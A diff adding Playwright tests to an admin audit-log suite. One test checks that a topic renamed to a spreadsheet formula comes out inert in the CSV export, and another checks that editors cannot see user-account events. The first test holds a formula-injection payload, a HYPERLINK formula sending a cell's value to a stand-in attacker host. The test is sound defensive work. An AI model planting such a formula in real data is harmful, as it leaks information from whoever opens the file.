@@ -2,6 +2,7 @@ import { expect, test } from "@playwright/test";
 import { sql } from "drizzle-orm";
 import { parse } from "csv-parse/sync";
 import { adminUrl } from "../src/env";
+import { createTopic, deleteTopic } from "@gp/db/queries/topics-admin";
 import { adminDb, closeAdminDb, editorContext, formStatus } from "./admin-helpers";
 
 test.afterAll(closeAdminDb);
@@ -54,4 +55,61 @@ test("the audit log filters by user, action and date, and downloads as CSV", asy
     ),
   ).toBe(true);
   expect(records.every((r) => r.action === "practice.update")).toBe(true);
+});
+
+test("a topic renamed to a spreadsheet formula comes out inert in the audit CSV", async ({ page }) => {
+  const [admin] = await adminDb().execute<{ id: number }>(sql`select id from users where email = 'admin@e2e.test'`);
+  const topic = await createTopic(adminDb(), { name: "Formula bait", parentId: null, actorId: admin!.id });
+  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
+  await page.goto(`${adminUrl}/topics`);
+  const panel = page.locator("details", { has: page.getByText("Edit Formula bait") });
+  await panel.locator("summary").click();
+  await panel.getByLabel("New name").fill(formula);
+  await panel.getByRole("button", { name: "Rename" }).click();
+  await expect(page.getByText(`Renamed to “${formula}”`)).toBeVisible();
+
+  const download = await page.request.get(`${adminUrl}/api/audit/export?action=topic.rename`);
+  const text = await download.text();
+  const records = parse(text, { columns: true }) as Array<Record<string, string>>;
+  const renamed = records.find((r) => r.subject_id === String(topic.id));
+  expect(JSON.parse(renamed!.after!)).toEqual({ name: formula });
+  // No cell of any record starts as a formula would (= + - @, a tab or a carriage return).
+  for (const record of records)
+    for (const [column, cell] of Object.entries(record)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
+  await deleteTopic(adminDb(), { id: topic.id, actorId: admin!.id });
+});
+
+test("an editor sees no events about user accounts and no user filter; an admin does", async ({ page, browser }) => {
+  await page.goto(`${adminUrl}/audit`);
+  await expect(page.getByLabel("User")).toBeVisible();
+  await expect(page.getByLabel("Action").locator("option", { hasText: "user.create" })).toHaveCount(1);
+  const adminCsv = parse(await (await page.request.get(`${adminUrl}/api/audit/export?action=user.create`)).text(), {
+    columns: true,
+  }) as Array<Record<string, string>>;
+  expect(adminCsv.map((r) => JSON.parse(r.after!).email)).toEqual(
+    expect.arrayContaining(["admin@e2e.test", "editor@e2e.test"]),
+  );
+
+  const editor = await editorContext(browser);
+  const editorPage = await editor.newPage();
+  const [admin] = await adminDb().execute<{ id: number }>(sql`select id from users where email = 'admin@e2e.test'`);
+  await editorPage.goto(`${adminUrl}/audit?action=user.create&user=${admin!.id}`);
+  await expect(editorPage.getByRole("heading", { level: 1 })).toHaveText("Audit log");
+  await expect(editorPage.getByLabel("User")).toHaveCount(0);
+  await expect(editorPage.getByLabel("Action").locator("option", { hasText: "user." })).toHaveCount(0);
+  await expect(editorPage.getByText("No event matches these filters.")).toBeVisible();
+  await editorPage.goto(`${adminUrl}/audit?size=200`);
+  await expect(editorPage.getByRole("table", { name: /Audit events/ })).not.toContainText("user.");
+  const editorCsv = async (query: string) => {
+    const csv = await editorPage.request.get(`${adminUrl}/api/audit/export?${query}`);
+    expect(csv.status()).toBe(200);
+    return parse(await csv.text(), { columns: true }) as Array<Record<string, string>>;
+  };
+  expect(await editorCsv("action=user.create")).toEqual([]);
+  const all = await editorCsv("");
+  expect(all.length).toBeGreaterThan(0);
+  expect(all.filter((r) => r.subject_type === "user")).toEqual([]);
+  // The user filter is not an editor's: asking for one user's events gives the same as asking for none.
+  expect(await editorCsv(`user=${admin!.id}`)).toEqual(all);
+  await editor.close();
 });
